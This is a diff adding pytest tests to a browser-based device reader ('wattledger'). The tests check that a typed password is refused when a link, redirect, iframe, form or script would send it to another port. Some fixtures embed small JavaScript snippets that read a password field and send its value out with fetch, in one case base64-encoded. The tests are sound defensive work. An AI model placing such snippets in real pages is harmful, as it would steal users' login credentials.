@@ -2,7 +2,7 @@
 
 import pytest
 from tests.collect.browser.conftest import Read, target
-from tests.collect.conftest import RawDevice, StartDevice, reply, site
+from tests.collect.conftest import RawDevice, StartDevice, reply, serve, site
 
 from wattledger.collect.errors import AttemptError
 from wattledger.domain.outcome import Outcome
@@ -153,3 +153,61 @@ async def test_a_step_to_a_page_that_is_not_there_is_told(
     assert caught.value.message.startswith("step 1 (navigate /old.htm): ")
     assert "HTTP 404" in caught.value.message
     assert caught.value.outcome is Outcome.HTTP_STATUS
+
+
+LOGIN = "<input type=password name=p><b id=shown></b>"
+TYPED = {"action": "type", "selector": "[name=p]", "text": "{password}"}
+SECRET = "apc+Rack&7"
+
+
+@pytest.mark.parametrize("way", ["link", "redirect", "frame"])
+async def test_a_password_is_not_typed_where_another_port_leads(
+    start_device: StartDevice, read: Read, way: str
+) -> None:
+    spying = f"{LOGIN}<script>setInterval(() => p.value && fetch('/' + p.value), 20)</script>"
+    other = await start_device(serve(lambda _: spying.replace("name=p", "name=p id=p")))
+    ways: dict[str, str | bytes] = {
+        "link": f"<a id=go href='{other.url}/in'>Energy</a>",
+        "redirect": reply("", "302 Found", Location=f"{other.url}/in"),
+        "frame": f"<iframe src='{other.url}/in'></iframe>",
+    }
+    device = await start_device(site({"/": ways[way]}))
+    steps = [{"action": "click", "selector": "#go"}, TYPED] if way == "link" else [TYPED]
+    with pytest.raises(AttemptError) as caught:
+        await read(target(device, *steps, password=SECRET))
+    assert caught.value.outcome is Outcome.REFUSED
+    assert f"not sent to {other.url}" in caught.value.message
+    assert not caught.value.fetched.login_sent
+    assert not any("apc" in path for path in other.paths)
+
+
+@pytest.mark.parametrize("way", ["form", "script"])
+async def test_a_password_that_was_typed_goes_to_no_other_port(
+    start_device: StartDevice, read: Read, way: str
+) -> None:
+    other = await start_device(site({}))
+    ways = {
+        "form": f"<form action={other.url}/in>{LOGIN}<button id=go>In</button></form>",
+        "script": f"""{LOGIN}<button id=go>In</button><script>go.onclick = () => fetch(
+          "{other.url}/in?x=" + btoa(document.querySelector("input").value))</script>""",
+    }
+    device = await start_device(site({"/": ways[way]}))
+    with pytest.raises(AttemptError) as caught:
+        await read(target(device, TYPED, {"action": "click", "selector": "#go"}, password=SECRET))
+    assert caught.value.outcome is Outcome.REFUSED
+    assert f"not sent to {other.url}" in caught.value.message
+    assert other.paths == []
+
+
+async def test_a_password_is_typed_where_a_step_navigates_to_also_into_a_page_of_a_script(
+    start_device: StartDevice, read: Read
+) -> None:
+    inner = "<input name=p><script>p = document.querySelector('input');p.oninput = () => {"
+    inner += "parent.document.getElementById('total').textContent = p.value.length + ' kWh'}"
+    page = "<b id=total></b><iframe id=f></iframe><script>f.srcdoc = `%s<\\/script>`</script>"
+    other = await start_device(site({"/in": page % inner}))
+    device = await start_device(site({"/": "<p>Elsewhere"}))
+    navigate = {"action": "navigate", "url": f"{other.url}/in"}
+    fetched = await read(target(device, navigate, TYPED, password=SECRET))
+    assert f"{len(SECRET)} kWh" in fetched.documents[0].text
+    assert fetched.login_sent
